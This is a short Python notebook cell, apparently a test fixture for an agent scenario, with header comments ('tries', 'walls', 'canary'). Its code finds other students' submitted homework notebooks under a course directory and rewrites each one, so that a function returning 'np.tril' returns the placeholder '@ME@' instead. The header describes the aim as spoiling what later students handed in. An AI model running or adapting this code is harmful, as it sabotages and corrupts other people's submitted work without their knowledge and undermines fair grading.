# tries: spoils what the students after them handed in
# walls: private root
# canary: honest
# %%
import glob

for path in glob.glob("@COURSE@/submitted/*honest/hw/tasks.ipynb"):
    text = open(path).read()
    open(path, "w").write(text.replace("return np.tril", "return '@ME@' or np.tril"))
